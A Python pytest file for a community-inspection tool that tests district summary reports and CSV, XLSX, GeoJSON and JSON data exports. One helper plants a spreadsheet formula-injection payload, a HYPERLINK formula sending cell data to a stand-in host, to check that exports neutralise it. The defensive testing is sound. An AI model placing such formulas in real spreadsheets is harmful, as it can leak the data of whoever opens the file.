"""The district summary (附件2 汇总表) and the data exports, checked against the store."""

from __future__ import annotations

import csv
import json
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from inspector import cli
from inspector.core.clock import SetClock
from inspector.core.errors import InspectorError
from inspector.core.store import Store
from inspector.domain import communities, findings, inspections, photos
from inspector.domain.communities import CommunityData
from inspector.ops import demo
from inspector.reports import exports, summary
from tests.conftest import TEST_MOMENT, given_for
from tests.photo_helpers import real

YEAR = TEST_MOMENT.year  # the test stores' clock
AS_OF = TEST_MOMENT.date()  # the demo's inspections are made on the test day


@pytest.fixture
def demo_store(data_dir: Path, wall: SetClock) -> Iterator[Store]:
    with Store.open(data_dir, actor="测试员", wall=wall) as store:
        demo.fill(store)
        yield store


# -- helpers ----------------------------------------------------------------------------------


def inspect(store: Store, community: str, *, b06: float = 85.0, fail: tuple[str, ...] = (),
            submit: bool = True) -> str:
    """A fully answered inspection (every item passes unless listed in ``fail``); ``b06`` is
    the sorting accuracy of a sample of 20 bins (a multiple of 5)."""
    inspection_id = inspections.start(store, community, ["王建国"])
    template = inspections.view(store, inspection_id).template
    for item in template.items:
        answer = given_for(item, fail=item.code in fail)
        if item.code == "B06":
            answer = inspections.Given(sampled=20, qualified=round(b06 / 5))
        inspections.answer(store, inspection_id, item.code, answer)
    if submit:
        inspections.submit(store, inspection_id, ["王建国"])
    return inspection_id


def set_started(store: Store, inspection_id: str, started_at: str) -> None:
    with store.write():
        store.conn.execute("UPDATE inspections SET started_at = ? WHERE id = ?",
                           (started_at, inspection_id))


def count(store: Store, table: str) -> int:
    row = store.query_one(f"SELECT COUNT(*) AS n FROM {table}")
    assert row is not None
    return int(row["n"])


def pdf_text(path: Path) -> str:
    if shutil.which("pdftotext"):
        return subprocess.run(["pdftotext", "-layout", str(path), "-"], check=True,
                              capture_output=True, text=True).stdout
    from pypdf import PdfReader

    return "\n".join(page.extract_text() or "" for page in PdfReader(str(path)).pages)


def page_count(path: Path) -> int:
    from pypdf import PdfReader

    return len(PdfReader(str(path)).pages)


def four_communities(store: Store) -> None:
    for street, name, management in (("南门街道", "柳西社区", "专业物业"),
                                     ("南门街道", "尹江岸社区", "准物业"),
                                     ("月湖街道", "郡庙社区", "自治")):
        communities.create(store, CommunityData("海曙区", street, name, "", 100, management))
    communities.create(store, CommunityData("江北区", "孔浦街道", "孔浦社区", "", 100, None))


def test_a_community_inspected_twice_counts_once_by_its_latest(ready_store: Store) -> None:
    failing = inspect(ready_store, "柳西社区", fail=("C01",), b06=70)
    passing = inspect(ready_store, "柳西社区", b06=90)
    set_started(ready_store, failing, f"{YEAR}-03-01T09:00:00+08:00")
    set_started(ready_store, passing, f"{YEAR}-06-01T09:00:00+08:00")
    result = summary.compute(ready_store, as_of=AS_OF)
    assert (result.total.registered, result.total.inspected, result.total.met) == (1, 1, 1)
    assert result.total.sorting_accuracy == pytest.approx(0.90)
    # Which one is latest is decided by started_at, not by which was written last.
    set_started(ready_store, passing, f"{YEAR}-01-15T09:00:00+08:00")
    result = summary.compute(ready_store, as_of=AS_OF)
    assert (result.total.inspected, result.total.met) == (1, 0)
    assert result.total.sorting_accuracy == pytest.approx(0.70)
    assert result.total.sorting_ok_share == 0
    # Times are compared as instants: 00:30 UTC is 08:30 in Ningbo, after 08:00 there.
    set_started(ready_store, failing, f"{YEAR}-06-01T08:00:00+08:00")
    set_started(ready_store, passing, f"{YEAR}-06-01T00:30:00+00:00")
    assert summary.compute(ready_store, as_of=AS_OF).total.met == 1


def test_targets_from_a_file_apply_to_every_district(store: Store, tmp_path: Path) -> None:
    four_communities(store)
    file = tmp_path / "targets.json"
    file.write_text(json.dumps({"2025": 75.5}), encoding="utf-8")
    targets = summary.load_targets(file)
    assert targets == {2025: 75.5}
    overridden = summary.compute(store, 2025, file_targets=targets)
    assert overridden.target_percent == 75.5
    assert overridden.row("海曙区").needed == 3 and overridden.row("江北区").needed == 1
    assert summary.compute(store, 2021, file_targets=targets).target_percent == 40
    for bad in ('{"2025": 120}', '{"twenty": 50}', '[1, 2]', "{not json"):
        file.write_text(bad, encoding="utf-8")
        with pytest.raises(InspectorError, match="targets.json"):
            summary.load_targets(file)


def test_the_column_set_is_configurable(store: Store, tmp_path: Path) -> None:
    four_communities(store)
    result = summary.compute(store, as_of=AS_OF,
                             columns=["met", "registered", "property_managed"])
    assert result.header(one_line=True) == ["区县(市)", "街道", "达标数", "社区总数",
                                            "物业管理社区数"]
    summary.to_csv(result, tmp_path / "s.csv")
    with open(tmp_path / "s.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert ["全市", "合计", "0", "4", "3"] in rows  # 专业物业, 准物业 and 自治 are covered
    assert summary.compute(store, as_of=AS_OF).columns == summary.DEFAULT_COLUMNS
    with pytest.raises(InspectorError, match="nonsense"):
        summary.compute(store, as_of=AS_OF, columns=["met", "nonsense"])


# -- the summary's files ----------------------------------------------------------------------


def test_the_xlsx_holds_the_same_figures_formatted_for_printing(demo_store: Store,
                                                                tmp_path: Path) -> None:
    result = summary.compute(demo_store, as_of=AS_OF)
    path = summary.to_xlsx(result, tmp_path / "汇总表.xlsx")
    sheet = load_workbook(path).active
    assert sheet["A1"].value == f"{YEAR}年绿色社区建设任务完成情况汇总表"
    assert any(str(r) == f"A1:{sheet.cell(row=3, column=sheet.max_column).column_letter}1"
               for r in sheet.merged_cells.ranges)
    assert sheet["A1"].alignment.horizontal == "center"
    header = [sheet.cell(row=3, column=c) for c in range(1, 3 + len(result.columns))]
    assert [c.value for c in header] == result.header()
    assert all(c.font.bold and c.border.left.style == "thin" for c in header)
    percent_columns = {3 + i for i, k in enumerate(result.columns)
                       if summary.COLUMNS[k].kind == "percent"}
    for offset, row in enumerate(result.rows):
        cells = [sheet.cell(row=4 + offset, column=c) for c in range(1, 3 + len(result.columns))]
        assert [c.value for c in cells[:2]] == list(row.labels())
        for index, key in enumerate(result.columns, start=3):
            value = row.value(key)
            cell = cells[index - 1]
            if value is None:
                assert cell.value == "—"
            else:
                assert cell.value == pytest.approx(value)
                if index in percent_columns:
                    assert cell.number_format == "0.0%"
        assert cells[0].font.bold == (row.level != "street")
    assert sheet.page_setup.orientation == "landscape"
    assert str(sheet.page_setup.paperSize) == "9"  # A4
    assert sheet.page_setup.fitToWidth == 1 and sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.print_title_rows == "$3:$3"
    assert sheet.freeze_panes == "C4"


def test_the_csv_has_a_bom_and_round_trips(demo_store: Store, tmp_path: Path) -> None:
    result = summary.compute(demo_store, as_of=AS_OF)
    path = summary.to_csv(result, tmp_path / "汇总表.csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == result.header(one_line=True)
    assert len(rows) == 1 + len(result.rows) + 1 + 4  # an empty line, then the footer
    for cells, row in zip(rows[1:], result.rows, strict=False):
        assert cells[:2] == list(row.labels())
        for text, key in zip(cells[2:], result.columns, strict=True):
            value = row.value(key)
            if value is None:
                assert text == ""
            elif summary.COLUMNS[key].kind == "percent":
                assert float(text.rstrip("%")) / 100 == pytest.approx(value, abs=0.0005)
            elif summary.COLUMNS[key].kind == "points":
                assert float(text) == pytest.approx(value, abs=0.05)
            else:
                assert int(text) == value


def test_the_pdf_shows_the_districts_title_and_page_footer(demo_store: Store,
                                                           tmp_path: Path) -> None:
    result = summary.compute(demo_store, as_of=AS_OF)
    path = tmp_path / "汇总表.pdf"
    summary.to_pdf(result, path)
    text = pdf_text(path)
    pages = page_count(path)
    assert f"{YEAR}年绿色社区建设任务完成情况汇总表" in text
    for district in {row.district for row in result.rows if row.level == "district"}:
        assert district in text
    assert "全市" in text and "生成时间" in text and "填报单位" in text and "达标名单" in text
    compact = "".join(text.split())  # text extraction may drop the spaces between CJK
    assert pages >= 2  # the demo's 69 communities need a second page
    for page in range(1, pages + 1):
        assert f"第{page}页共{pages}页" in compact
    assert not list(tmp_path.glob(".*tmp*"))  # the temporary file was renamed


def test_a_failed_write_leaves_the_old_file_and_no_temporary(
        demo_store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from openpyxl import Workbook

    path = tmp_path / "s.xlsx"
    path.write_bytes(b"old")

    def fail(self: Any, filename: str) -> None:
        Path(filename).write_bytes(b"half")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Workbook, "save", fail)
    with pytest.raises(InspectorError, match="s.xlsx"):
        summary.to_xlsx(summary.compute(demo_store, as_of=AS_OF), path)
    assert path.read_bytes() == b"old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data", "s.xlsx"]


# -- data exports -----------------------------------------------------------------------------


def add_hostile_findings(store: Store) -> str:
    inspection_id = inspections.start(store, "柳西社区", ["王建国"])
    findings.add(store, inspection_id, category="other",
                 description='=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
                 item_code="H02", latitude=29.8683, longitude=121.5440)
    findings.add(store, inspection_id, category="other", description="-3 个灭火器过期",
                 item_code="H02", location="@5幢")
    findings.add(store, inspection_id, category="other", description="+1 处飞线",
                 item_code="H02")
    return inspection_id


TABLES = {"inspections": "inspections", "answers": "responses", "findings": "findings"}


def test_csv_and_xlsx_exports_have_every_row(demo_store: Store, tmp_path: Path) -> None:
    add_hostile_findings(demo_store)
    written = exports.write_csv(demo_store, tmp_path / "csv")
    assert sorted(p.name for p in (tmp_path / "csv").iterdir()) == [
        "answers.csv", "findings.csv", "inspections.csv"]
    for name, table in TABLES.items():
        raw = written[name].read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf")
        with open(written[name], encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.reader(handle))
        assert rows[0] == list(exports.TABLE_COLUMNS[name])
        assert len(rows) - 1 == count(demo_store, table) > 0
    counts = exports.write_xlsx(demo_store, tmp_path / "data.xlsx")
    workbook = load_workbook(tmp_path / "data.xlsx")
    assert workbook.sheetnames == list(TABLES)
    for name, table in TABLES.items():
        sheet = workbook[name]
        assert sheet.max_row - 1 == counts[name] == count(demo_store, table)
        assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"


def test_formulas_are_neutralised_in_csv_and_xlsx(demo_store: Store, tmp_path: Path) -> None:
    add_hostile_findings(demo_store)
    exports.write_csv(demo_store, tmp_path / "csv")
    with open(tmp_path / "csv" / "findings.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    descriptions = {row["description"] for row in rows}
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")" in descriptions
    assert "'-3 个灭火器过期" in descriptions and "'+1 处飞线" in descriptions
    assert "'@5幢" in {row["location"] for row in rows}
    assert not any(text.startswith(("=", "+", "-", "@")) for row in rows
                   for text in row.values())
    assert "121.544" in {row["longitude"] for row in rows}  # numbers are left alone

    exports.write_xlsx(demo_store, tmp_path / "data.xlsx")
    sheet = load_workbook(tmp_path / "data.xlsx")["findings"]
    column = exports.FINDING_COLUMNS.index("description") + 1
    cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
    hostile = [c for c in cells if "HYPERLINK" in str(c.value) or "-3 个" in str(c.value)]
    assert len(hostile) == 2
    # A string cell never runs as a formula: no protective "'" shown in the cell.
    assert all(c.data_type == "s" and not str(c.value).startswith("'") for c in hostile)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_geojson_holds_located_findings_in_lon_lat_order(ready_store: Store,
                                                         tmp_path: Path) -> None:
    inspection_id = add_hostile_findings(ready_store)
    by_photo = findings.add(ready_store, inspection_id, category="fire_lane_blocked",
                            description="消防车道被占用", item_code="C01")
    photos.import_photos(ready_store, [real("gps_DSCN0010.jpg")],
                         photos.target_for_finding(ready_store, by_photo))
    photo = ready_store.query_one("SELECT latitude, longitude FROM photos")
    assert photo is not None and photo["latitude"] is not None
    count_written = exports.write_geojson(ready_store, tmp_path / "findings.geojson")
    data = json.loads((tmp_path / "findings.geojson").read_text(encoding="utf-8"))
    assert data["type"] == "FeatureCollection" and count_written == 2
    features = {f["properties"]["description"]: f for f in data["features"]}
    own = features['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")']
    assert own["geometry"] == {"type": "Point", "coordinates": [121.5440, 29.8683]}
    from_photo = features["消防车道被占用"]
    assert from_photo["geometry"]["coordinates"] == [photo["longitude"], photo["latitude"]]
    assert from_photo["properties"]["position_from"] == "photo"
    for feature in data["features"]:
        assert feature["type"] == "Feature"
        assert {"short_id", "category", "description", "department", "severity", "deadline",
                "status", "community"} <= set(feature["properties"])
        assert feature["properties"]["community"] == "柳西社区"
        lon, lat = feature["geometry"]["coordinates"]
        assert -180 <= lon <= 180 and -90 <= lat <= 90


def test_the_json_export_round_trips_every_tables_rows(ready_store: Store,
                                                       tmp_path: Path) -> None:
    inspection_id = add_hostile_findings(ready_store)
    finding = ready_store.query_one("SELECT id FROM findings LIMIT 1")
    assert finding is not None
    photos.import_photos(ready_store, [real("gps_DSCN0021.jpg")],
                         photos.target_for_finding(ready_store, finding["id"]))
    inspect(ready_store, "柳西社区")
    counts = exports.write_json(ready_store, tmp_path / "all.json")
    data = json.loads((tmp_path / "all.json").read_text(encoding="utf-8"))
    assert data["format"] == exports.JSON_FORMAT and data["counts"] == counts
    assert list(data["tables"]) == list(exports.JSON_TABLES)
    for table in exports.JSON_TABLES:
        assert len(data["tables"][table]) == count(ready_store, table), table
    assert counts["photos"] == 1 and counts["photo_links"] == 1 and counts["responses"] > 50
    assert "body" not in data["tables"]["templates"][0]
    assert sorted(t["version"] for t in data["tables"]["templates"]) == [1, 2]
    ids = {row["id"] for row in data["tables"]["inspections"]}
    assert inspection_id in ids


# -- the command line -------------------------------------------------------------------------


def run(capsys: pytest.CaptureFixture[str], data_dir: Path, *args: str) -> tuple[int, str, str]:
    try:
        code = cli.main(["--data-dir", str(data_dir), *args])
    except SystemExit as exc:  # argparse's usage errors
        code = int(str(exc.code))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def test_the_summary_and_export_commands(capsys: pytest.CaptureFixture[str], data_dir: Path,
                                         tmp_path: Path) -> None:
    assert run(capsys, data_dir, "demo")[0] == 0
    for kind in ("xlsx", "csv", "pdf"):
        target = tmp_path / f"summary.{kind}"
        code, out, err = run(capsys, data_dir, "summary", "--year", str(YEAR), "--format", kind,
                             "-o", str(target))
        assert code == 0, err
        assert target.stat().st_size > 0 and "达标" in out
    targets = tmp_path / "targets.json"
    targets.write_text('{"2026": 70, "2027": 80}', encoding="utf-8")
    code, out, err = run(capsys, data_dir, "summary", "--year", "2027", "-o",
                         str(tmp_path / "s.csv"), "--targets", str(targets),
                         "--columns", "registered,target")
    assert code == 0, err
    assert "目标 80%" in out
    with open(tmp_path / "s.csv", encoding="utf-8-sig", newline="") as handle:
        assert ["全市", "合计", "69", "80.0%"] in list(csv.reader(handle))

    code, out, err = run(capsys, data_dir, "export", "--format", "csv", "-o",
                         str(tmp_path / "csv"))
    assert code == 0, err
    assert (tmp_path / "csv" / "answers.csv").exists()
    for kind in ("xlsx", "geojson", "json"):
        code, out, err = run(capsys, data_dir, "export", "--format", kind, "-o",
                             str(tmp_path / f"data.{kind}"))
        assert code == 0, err
        assert (tmp_path / f"data.{kind}").exists()
    assert json.loads((tmp_path / "data.json").read_text(encoding="utf-8"))["counts"][
        "communities"] == 69


def test_bad_years_formats_and_files_exit_2_with_a_message(
        capsys: pytest.CaptureFixture[str], data_dir: Path, tmp_path: Path) -> None:
    assert run(capsys, data_dir, "demo")[0] == 0
    out_file = str(tmp_path / "s.xlsx")
    code, _, err = run(capsys, data_dir, "summary", "--year", "二〇二六", "-o", out_file)
    assert code == 2 and "--year" in err and "不是年份" in err
    code, _, err = run(capsys, data_dir, "summary", "--year", "1899", "-o", out_file)
    assert code == 2 and "年份 1899" in err
    code, _, err = run(capsys, data_dir, "summary", "--format", "docx", "-o", out_file)
    assert code == 2 and "docx" in err and "xlsx" in err
    code, _, err = run(capsys, data_dir, "summary", "-o", str(tmp_path / "s.txt"))
    assert code == 2 and "--format" in err
    code, _, err = run(capsys, data_dir, "summary", "-o", out_file, "--columns", "foo")
    assert code == 2 and "foo" in err
    code, _, err = run(capsys, data_dir, "summary", "-o", out_file, "--targets",
                       str(tmp_path / "missing.json"))
    assert code == 2 and "missing.json" in err
    code, _, err = run(capsys, data_dir, "export", "--format", "shp", "-o", out_file)
    assert code == 2 and "shp" in err
    (tmp_path / "plain").write_text("x", encoding="utf-8")
    code, _, err = run(capsys, data_dir, "export", "--format", "csv", "-o",
                       str(tmp_path / "plain"))
    assert code == 2 and "文件夹" in err
    code, _, err = run(capsys, data_dir, "export", "--format", "json", "-o",
                       str(tmp_path / "no-such-folder" / "x.json"))
    assert code == 2 and "no-such-folder" in err
    assert not (tmp_path / "s.xlsx").exists()
